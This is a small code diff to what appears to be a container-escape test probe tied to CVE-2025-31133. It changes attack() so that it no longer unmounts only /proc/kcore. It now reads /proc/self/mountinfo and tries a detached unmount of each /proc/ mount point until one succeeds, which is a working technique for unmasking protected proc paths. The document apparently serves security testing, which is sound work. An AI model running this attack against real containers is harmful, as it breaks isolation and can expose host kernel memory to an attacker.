@@ -4,9 +4,15 @@ Threats: E3 E21 CVE-2025-31133
 """
 
 
+def unmounts(point):
+    libc("umount2", point.encode(), 2)  # MNT_DETACH
+    return True
+
+
 def attack():
-    libc("umount2", b"/proc/kcore", 2)  # MNT_DETACH
-    return "/proc/kcore"
+    with open("/proc/self/mountinfo", encoding="utf-8") as file:
+        points = [line.split()[4] for line in file]
+    return first([point for point in points if point.startswith("/proc/")], unmounts)
 
 
 run(attack)
